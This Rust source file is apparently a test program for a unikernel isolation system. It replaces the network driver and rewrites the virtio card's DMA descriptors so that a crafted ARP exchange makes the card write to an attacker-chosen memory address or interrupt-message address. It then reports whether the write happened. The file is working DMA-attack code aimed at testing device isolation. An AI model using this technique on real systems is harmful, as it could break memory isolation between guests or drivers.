//! Takes the place of the network driver. When the first unikernel behind the card says that it is ready, it has the card
//! write where it must not, and tells that unikernel when the card has done so, or has done nothing for a while.
//!
//! - `write ADDRESS`: 64 bytes.
//! - `interrupt ADDRESS MESSAGE`: four bytes, where writes are interrupts; the lower 16 bits are the attacker's choice.
//!
//! The card writes frames that it receives. The first bytes of an answer are the address of who asked, which the attacker
//! chooses.

#![no_std]
#![no_main]
#![deny(unsafe_code)]

use palisade_abi::nic_config::{self, Header, MAX_PORTS, Port};
use palisade_abi::volatile::{Memory, Shared};
use palisade_services::switch::Wire;
use palisade_services::virtio::card::Dma;
use palisade_services::virtio::{Card, Fault};
use solo5::{DeviceRegisters, StartInfo, clock, println, raise_number, registers, shared_memory, sleep};

solo5::subject!(main, stack = 128 * 1024);

fn main(start: &StartInfo) -> i32 {
    let mut arguments = start.arguments();
    let (attack, address, message) = (arguments.next(), arguments.number(0), arguments.number(2));
    let length = match attack {
        Some("write") => 64,
        Some("interrupt") => 4,
        _ => return 1,
    };
    let target = Target { address, length, message: message as u16 };
    let mut bytes = ConfigurationBytes([0; nic_config::size(MAX_PORTS)]);
    let Some((header, [port, ..])) = read(&mut bytes) else { return 1 };
    sleep::wait();
    match target.attack(header) {
        Ok(true) => println!("the card says that it has written to {:#x}", target.address),
        Ok(false) => println!("the card does not say that it has written to {:#x}", target.address),
        Err(fault) => println!("the card cannot be used: {}", fault.as_str()),
    }
    // Reports of the attempt go their way before the end of the system.
    sleep::until(clock::monotonic() + PATIENCE);
    raise_number(u64::from(port.ready_event));
    loop {
        sleep::wait();
    }
}

/// Where the card is to write, and what.
struct Target {
    address: u64,
    length: u64,
    /// The first two bytes.
    message: u16,
}

impl Target {
    /// Has the card write; whether it says that it did.
    fn attack(&self, header: &Header) -> Result<bool, Fault> {
        let memory = shared_memory("dma").ok_or(Fault::NoMemory)?;
        let page = registers("device_config").ok_or(Fault::NoRegisters)?;
        let bars: [Option<DeviceRegisters>; 6] = BAR_NAMES.map(registers);
        let dma = Dma { memory, address: header.dma_address };
        let deadline = clock::monotonic() + PATIENCE;
        let wait = || {
            sleep::wait_until(clock::monotonic() + POLL);
            clock::monotonic() < deadline
        };
        let open_memory = || raise_number(u64::from(header.start_event));
        let mut card = Card::start(&page, &bars, &dma, wait, open_memory)?;
        self.aim(memory, header.dma_address);
        card.send(&self.question(), 0);
        card.flush();
        while !card.has_received() && clock::monotonic() < deadline {
            sleep::wait_until(clock::monotonic() + POLL);
        }
        Ok(card.has_received())
    }

    /// Changes what the card was told of its first buffer: the header of a frame and what is beyond the target's length go to
    /// the shared memory, what is between them to the target.
    fn aim(&self, memory: Shared<'_>, own: u64) {
        let parts = [
            (0, own + SPARE, HEADER, CHAINED | u64::from(PARTS) << 16),
            (PARTS, self.address, self.length, CHAINED | u64::from(PARTS + 1) << 16),
            (PARTS + 1, own + SPARE + 64, 4096, WRITTEN),
        ];
        for (number, address, length, flags) in parts {
            let at = usize::from(number) * DESCRIPTOR;
            memory.store(at, address);
            memory.store(at + 8, length | flags << 32);
        }
    }

    /// An ARP request to the router, from an address that begins with the message.
    fn question(&self) -> [u8; 60] {
        let [first, second] = self.message.to_le_bytes();
        let from = [first, second, 0, 0, 0x12, 0x34];
        let mut frame = [0; 60];
        let parts: [(usize, &[u8]); 7] = [
            (0, &[0xff; 6]),
            (6, &from),
            (12, &[8, 6, 0, 1, 8, 0, 6, 4, 0, 1]),
            (22, &from),
            (28, &[10, 0, 2, 15]),
            (32, &[0; 6]),
            (38, &[10, 0, 2, 2]),
        ];
        for (at, bytes) in parts {
            frame.iter_mut().skip(at).zip(bytes).for_each(|(to, from)| *to = *from);
        }
        frame
    }
}

/// A configuration, aligned as its structures are.
#[repr(align(8))]
struct ConfigurationBytes([u8; nic_config::size(MAX_PORTS)]);

fn read(bytes: &mut ConfigurationBytes) -> Option<(&Header, &[Port])> {
    let memory = shared_memory("config")?;
    let length = bytes.0.len().min(memory.size());
    memory.copy_out(0, bytes.0.get_mut(..length)?)?;
    nic_config::parse(&bytes.0)
}

const BAR_NAMES: [&str; 6] =
    ["device_bar0", "device_bar1", "device_bar2", "device_bar3", "device_bar4", "device_bar5"];

/// How long the card may take, and how often it is asked, in nanoseconds.
const PATIENCE: u64 = 3_000_000_000;
const POLL: u64 = 1_000_000;

/// Bytes of a descriptor, and of the header before a frame; descriptors that no buffer of this attack uses; shared memory that
/// no buffer uses.
const DESCRIPTOR: usize = 16;
const HEADER: u64 = 12;
const PARTS: u16 = 200;
const SPARE: u64 = 0x10_0000;
/// Flags of a descriptor: the card writes the buffer, and the frame goes on in another one.
const WRITTEN: u64 = 2;
const CHAINED: u64 = WRITTEN | 1;
